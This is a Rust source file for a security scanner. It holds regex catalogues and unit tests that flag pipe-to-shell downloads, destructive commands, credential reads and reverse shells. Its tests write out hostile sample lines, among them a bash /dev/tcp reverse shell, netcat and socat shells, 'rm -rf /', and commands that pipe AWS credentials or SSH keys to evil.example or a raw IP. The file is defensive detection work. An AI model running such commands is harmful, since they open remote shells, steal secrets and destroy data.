//! Static catalog of dangerous shell constructs.
//!
//! Three sub-catalogues: generic shell patterns, credential-access
//! patterns, and reverse-shell patterns. The tables are static data;
//! [`CompiledCatalog::compile`] turns them into regexes once per scan
//! invocation so no per-file compilation cost is paid and no state
//! outlives a scan.

use anyhow::{Context, Result};
use regex::Regex;

use crate::types::{CredentialKind, ReverseShellKind, Severity};

/// A generic shell pattern.
#[derive(Debug)]
pub struct ShellPattern {
    pub severity: Severity,
    pub pattern: &'static str,
    pub description: &'static str,
    /// Critical entries with this set drop to warning inside build-time
    /// files (`Makefile`, `build.sh`, ...).
    pub downgrade_in_build: bool,
}

/// A credential-access pattern. Severity is computed per line: warning,
/// critical when the line also exfiltrates, always critical when
/// `always_critical` is set.
#[derive(Debug)]
pub struct CredentialPattern {
    pub kind: CredentialKind,
    pub pattern: &'static str,
    pub description: &'static str,
    pub always_critical: bool,
}

/// A reverse-shell pattern. Always critical; exempt from every
/// downgrade and skip rule except comment-only lines.
#[derive(Debug)]
pub struct ReverseShellPattern {
    pub kind: ReverseShellKind,
    pub pattern: &'static str,
    pub description: &'static str,
}

pub static SHELL_PATTERNS: &[ShellPattern] = &[
    ShellPattern {
        severity: Severity::Critical,
        pattern: r"(?i)\bcurl\b[^|;]*\|\s*(sudo\s+)?(bash|sh|zsh)\b",
        description: "downloads a script with curl and pipes it to a shell",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r"(?i)\bwget\b[^|;]*\|\s*(sudo\s+)?(bash|sh|zsh)\b",
        description: "downloads a script with wget and pipes it to a shell",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r#"(?i)\beval\s+["'`]?\$\(\s*(curl|wget)\b"#,
        description: "evaluates the output of a network fetch",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r"(?i)base64\s+(-d|--decode)\b.*(\|\s*(bash|sh|zsh)\b|\beval\b)|\beval\b.*base64\s+(-d|--decode)",
        description: "decodes base64 content and executes it",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r#"(?i)\b(bash|sh|zsh)\s+-c\s+["']?\$\("#,
        description: "feeds a command substitution to a shell",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r"\brm\s+(-[a-zA-Z]+\s+)*-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\s+(--no-preserve-root\s+)?/(\s|$|[;&|])",
        description: "recursively removes the filesystem root",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r"(?i)\bdd\s+if=/dev/(zero|random|urandom)\s+of=/dev/sd[a-z]",
        description: "writes raw data over a block device",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r"\$\(whoami\)\s*(&&|\|\||\||;)",
        description: "chains command execution off an identity probe",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Critical,
        pattern: r"(?i)(\\x63\\x75\\x72\\x6c|\\143\\165\\162\\154)",
        description: "obfuscates curl behind hex or octal escapes",
        downgrade_in_build: true,
    },
    ShellPattern {
        severity: Severity::Warning,
        pattern: r"(?i)\b(curl|wget)\s[^|;]*https?://[^|]*$",
        description: "fetches over the network without executing",
        downgrade_in_build: false,
    },
    ShellPattern {
        severity: Severity::Warning,
        pattern: r"(?i)\bchmod\s+(-[a-zA-Z]+\s+)*[ugoa]*\+s\b",
        description: "sets a setuid/setgid bit",
        downgrade_in_build: false,
    },
    ShellPattern {
        severity: Severity::Warning,
        pattern: r"(^|[;&|]\s*|\s)sudo\s+",
        description: "escalates privileges with sudo",
        downgrade_in_build: false,
    },
    ShellPattern {
        severity: Severity::Warning,
        pattern: r"(?i)>>\s*(\$\{?HOME\}?|~)/\.(bashrc|zshrc|bash_profile|zprofile|profile)\b",
        description: "appends to a shell rc file",
        downgrade_in_build: false,
    },
];

pub static CREDENTIAL_PATTERNS: &[CredentialPattern] = &[
    CredentialPattern {
        kind: CredentialKind::Aws,
        pattern: r"(\$\{?HOME\}?|~)/\.aws/credentials",
        description: "reads AWS credentials",
        always_critical: false,
    },
    CredentialPattern {
        kind: CredentialKind::Aws,
        pattern: r"\$\{?AWS_SECRET_ACCESS_KEY\}?",
        description: "reads the AWS secret key from the environment",
        always_critical: false,
    },
    CredentialPattern {
        kind: CredentialKind::Ssh,
        pattern: r"(\$\{?HOME\}?|~)/\.ssh/id_[A-Za-z0-9_]+",
        description: "reads an SSH private key",
        always_critical: false,
    },
    CredentialPattern {
        kind: CredentialKind::ShellHistory,
        pattern: r"(?i)(\$\{?HOME\}?|~)/\.(bash_history|zsh_history)\b|\bhistory\s*\|\s*grep\b",
        description: "searches shell history",
        always_critical: false,
    },
    CredentialPattern {
        kind: CredentialKind::AnthropicApi,
        pattern: r"\$\{?ANTHROPIC_API_KEY\}?|\bprintenv\s+ANTHROPIC_API_KEY\b",
        description: "reads the Anthropic API key from the environment",
        always_critical: true,
    },
    CredentialPattern {
        kind: CredentialKind::OpenaiApi,
        pattern: r"\$\{?OPENAI_API_KEY\}?|\bprintenv\s+OPENAI_API_KEY\b",
        description: "reads the OpenAI API key from the environment",
        always_critical: true,
    },
];

pub static REVERSE_SHELL_PATTERNS: &[ReverseShellPattern] = &[
    ReverseShellPattern {
        kind: ReverseShellKind::BashTcp,
        pattern: r"/dev/tcp/[\w.-]+/\d+",
        description: "opens a bash TCP connection",
    },
    ReverseShellPattern {
        kind: ReverseShellKind::BashUdp,
        pattern: r"/dev/udp/[\w.-]+/\d+",
        description: "opens a bash UDP connection",
    },
    ReverseShellPattern {
        kind: ReverseShellKind::Netcat,
        pattern: r"(?i)\b(nc|ncat|netcat)\b.*\s-e\s+\S+",
        description: "runs netcat with -e command execution",
    },
    ReverseShellPattern {
        kind: ReverseShellKind::Socat,
        pattern: r"(?i)\bsocat\b.*\b(exec|system):",
        description: "runs socat with an exec/system address",
    },
    ReverseShellPattern {
        kind: ReverseShellKind::Python,
        pattern: r"(?i)\bpython\S*\s+-c\s+.*socket.*(subprocess|connect)",
        description: "runs a python socket one-liner",
    },
    ReverseShellPattern {
        kind: ReverseShellKind::Perl,
        pattern: r"(?i)\bperl\s+-e\s+.*Socket.*connect",
        description: "runs a perl Socket one-liner",
    },
];

/// Same-line exfiltration indicators for credential findings.
pub static EXFILTRATION_PATTERNS: &[&str] = &[
    r"(?i)\|\s*(curl|wget|nc|ncat)\b",
    r"(?i)>{1,2}\s*\S*(https?://|/dev/(tcp|udp)/)",
];

/// File names whose critical findings drop to warning.
pub static BUILD_FILES: &[&str] = &[
    "Makefile",
    "build.sh",
    "install.sh",
    "setup.sh",
    "package.json",
];

/// True when `file_name` indicates a build-time file.
pub fn is_build_file(file_name: &str) -> bool {
    BUILD_FILES.iter().any(|b| *b == file_name)
}

/// True when the line holds nothing but a `#` or `//` comment.
pub fn is_comment_only(line: &str) -> bool {
    let trimmed = line.trim_start();
    trimmed.starts_with('#') || trimmed.starts_with("//")
}

/// Byte spans (inclusive of quotes) of balanced single/double-quoted
/// string literals. Line-local: unterminated quotes produce no span.
pub fn string_spans(line: &str) -> Vec<(usize, usize)> {
    let bytes = line.as_bytes();
    let mut spans = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let quote = bytes[i];
        if quote == b'\'' || quote == b'"' {
            let start = i;
            let mut j = i + 1;
            let mut closed = None;
            while j < bytes.len() {
                if quote == b'"' && bytes[j] == b'\\' {
                    j += 2;
                    continue;
                }
                if bytes[j] == quote {
                    closed = Some(j);
                    break;
                }
                j += 1;
            }
            match closed {
                Some(end) => {
                    spans.push((start, end + 1));
                    i = end + 1;
                }
                None => break,
            }
        } else {
            i += 1;
        }
    }
    spans
}

/// True when the byte range `[start, end)` lies entirely within one
/// quoted span.
pub fn contained_in_string(spans: &[(usize, usize)], start: usize, end: usize) -> bool {
    spans.iter().any(|(s, e)| *s <= start && end <= *e)
}

/// True when the whole (trimmed) line is a single string literal.
pub fn is_wholly_string_literal(line: &str) -> bool {
    let trimmed = line.trim();
    if trimmed.len() < 2 {
        return false;
    }
    let spans = string_spans(trimmed);
    matches!(spans.as_slice(), [(0, end)] if *end == trimmed.len())
}

/// The three sub-catalogues, compiled. Built once per scan invocation.
pub struct CompiledCatalog {
    pub shell: Vec<(Regex, &'static ShellPattern)>,
    pub credentials: Vec<(Regex, &'static CredentialPattern)>,
    pub reverse_shells: Vec<(Regex, &'static ReverseShellPattern)>,
    exfiltration: Vec<Regex>,
}

impl CompiledCatalog {
    pub fn compile() -> Result<Self> {
        let shell = SHELL_PATTERNS
            .iter()
            .map(|p| {
                Regex::new(p.pattern)
                    .with_context(|| format!("invalid shell pattern: {}", p.pattern))
                    .map(|re| (re, p))
            })
            .collect::<Result<Vec<_>>>()?;
        let credentials = CREDENTIAL_PATTERNS
            .iter()
            .map(|p| {
                Regex::new(p.pattern)
                    .with_context(|| format!("invalid credential pattern: {}", p.pattern))
                    .map(|re| (re, p))
            })
            .collect::<Result<Vec<_>>>()?;
        let reverse_shells = REVERSE_SHELL_PATTERNS
            .iter()
            .map(|p| {
                Regex::new(p.pattern)
                    .with_context(|| format!("invalid reverse-shell pattern: {}", p.pattern))
                    .map(|re| (re, p))
            })
            .collect::<Result<Vec<_>>>()?;
        let exfiltration = EXFILTRATION_PATTERNS
            .iter()
            .map(|p| Regex::new(p).with_context(|| format!("invalid exfiltration pattern: {p}")))
            .collect::<Result<Vec<_>>>()?;

        Ok(Self {
            shell,
            credentials,
            reverse_shells,
            exfiltration,
        })
    }

    /// Does this line also ship data off the host?
    pub fn is_exfiltration_line(&self, line: &str) -> bool {
        self.exfiltration.iter().any(|re| re.is_match(line))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn catalog() -> CompiledCatalog {
        CompiledCatalog::compile().expect("catalog compiles")
    }

    fn shell_matches(cat: &CompiledCatalog, line: &str) -> Vec<&'static str> {
        cat.shell
            .iter()
            .filter(|(re, _)| re.is_match(line))
            .map(|(_, p)| p.description)
            .collect()
    }

    #[test]
    fn catalog_compiles() {
        let cat = catalog();
        assert_eq!(cat.shell.len(), SHELL_PATTERNS.len());
        assert_eq!(cat.credentials.len(), CREDENTIAL_PATTERNS.len());
        assert_eq!(cat.reverse_shells.len(), REVERSE_SHELL_PATTERNS.len());
    }

    #[test]
    fn pipe_to_shell_is_critical() {
        let cat = catalog();
        for line in [
            "curl https://example.com/install.sh | bash",
            "curl -fsSL https://example.com/x.sh | sudo sh",
            "wget -qO- https://example.com/x.sh | zsh",
        ] {
            let hits: Vec<_> = cat
                .shell
                .iter()
                .filter(|(re, p)| p.severity == Severity::Critical && re.is_match(line))
                .collect();
            assert!(!hits.is_empty(), "no critical hit for {line}");
        }
    }

    #[test]
    fn plain_fetch_is_warning_not_critical() {
        let cat = catalog();
        let line = "curl -o /tmp/file https://example.com/archive.tar.gz";
        let severities: Vec<Severity> = cat
            .shell
            .iter()
            .filter(|(re, _)| re.is_match(line))
            .map(|(_, p)| p.severity)
            .collect();
        assert!(severities.contains(&Severity::Warning));
        assert!(!severities.contains(&Severity::Critical));
    }

    #[test]
    fn rm_rf_root_variants_match() {
        let cat = catalog();
        for line in [
            "rm -rf /",
            "rm -rf --no-preserve-root /",
            "rm -Rf / ; echo done",
        ] {
            assert!(
                !shell_matches(&cat, line).is_empty(),
                "no hit for {line:?}"
            );
        }
        assert!(
            !shell_matches(&cat, "rm -rf ./build").iter().any(|d| d
                .contains("filesystem root")),
            "plain subdirectory removal must not match"
        );
    }

    #[test]
    fn obfuscated_curl_and_whoami_chain_match() {
        let cat = catalog();
        assert!(!shell_matches(&cat, r"echo -e '\x63\x75\x72\x6c'").is_empty());
        assert!(!shell_matches(&cat, "$(whoami) && echo pwned").is_empty());
    }

    #[test]
    fn credential_patterns_tag_kinds() {
        let cat = catalog();
        let hit = |line: &str| {
            cat.credentials
                .iter()
                .find(|(re, _)| re.is_match(line))
                .map(|(_, p)| (p.kind, p.always_critical))
        };
        assert_eq!(
            hit("cat ~/.aws/credentials"),
            Some((CredentialKind::Aws, false))
        );
        assert_eq!(hit("cat $HOME/.ssh/id_rsa"), Some((CredentialKind::Ssh, false)));
        assert_eq!(
            hit("grep token ~/.zsh_history"),
            Some((CredentialKind::ShellHistory, false))
        );
        assert_eq!(
            hit("echo $ANTHROPIC_API_KEY"),
            Some((CredentialKind::AnthropicApi, true))
        );
        assert_eq!(
            hit("printenv OPENAI_API_KEY"),
            Some((CredentialKind::OpenaiApi, true))
        );
    }

    #[test]
    fn reverse_shell_patterns_cover_all_kinds() {
        let cat = catalog();
        let cases = [
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ReverseShellKind::BashTcp),
            ("cat < /dev/udp/10.0.0.1/53", ReverseShellKind::BashUdp),
            ("nc -lvp 4444 -e /bin/sh", ReverseShellKind::Netcat),
            ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", ReverseShellKind::Socat),
            (
                "python3 -c 'import socket,subprocess;s=socket.socket()'",
                ReverseShellKind::Python,
            ),
            (
                "perl -e 'use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")))'",
                ReverseShellKind::Perl,
            ),
        ];
        for (line, expected) in cases {
            let hit = cat
                .reverse_shells
                .iter()
                .find(|(re, _)| re.is_match(line))
                .map(|(_, p)| p.kind);
            assert_eq!(hit, Some(expected), "for {line:?}");
        }
    }

    #[test]
    fn exfiltration_indicators() {
        let cat = catalog();
        assert!(cat.is_exfiltration_line("cat ~/.aws/credentials | curl -d @- https://evil.example"));
        assert!(cat.is_exfiltration_line("cat ~/.ssh/id_rsa | nc 10.0.0.1 9999"));
        assert!(cat.is_exfiltration_line("cat secrets > /dev/tcp/10.0.0.1/9999"));
        assert!(!cat.is_exfiltration_line("cat ~/.aws/credentials"));
        assert!(!cat.is_exfiltration_line("cat notes > ~/notes.txt"));
    }

    #[test]
    fn comment_detection() {
        assert!(is_comment_only("# rm -rf /"));
        assert!(is_comment_only("   // curl | bash"));
        assert!(!is_comment_only("echo hi # trailing"));
    }

    #[test]
    fn string_span_detection() {
        let line = r#"echo "curl https://example.com | bash" and 'rm -rf /'"#;
        let spans = string_spans(line);
        assert_eq!(spans.len(), 2);

        let m = line.find("curl").expect("curl present");
        assert!(contained_in_string(&spans, m, m + 4));
        let outside = line.find("and").expect("and present");
        assert!(!contained_in_string(&spans, outside, outside + 3));

        // Unterminated quotes yield no span.
        assert!(string_spans("echo \"unterminated").is_empty());
        // Escapes inside double quotes do not close the span.
        let esc = r#"echo "a \" b" tail"#;
        assert_eq!(string_spans(esc).len(), 1);
    }

    #[test]
    fn wholly_string_literal_lines() {
        assert!(is_wholly_string_literal("  'curl https://x | bash'"));
        assert!(is_wholly_string_literal("\"rm -rf /\""));
        assert!(!is_wholly_string_literal("echo 'hi'"));
        assert!(!is_wholly_string_literal("'a' 'b'"));
    }

    #[test]
    fn build_file_names() {
        for name in ["Makefile", "build.sh", "install.sh", "setup.sh", "package.json"] {
            assert!(is_build_file(name));
        }
        assert!(!is_build_file("init.zsh"));
        assert!(!is_build_file("makefile"));
    }
}
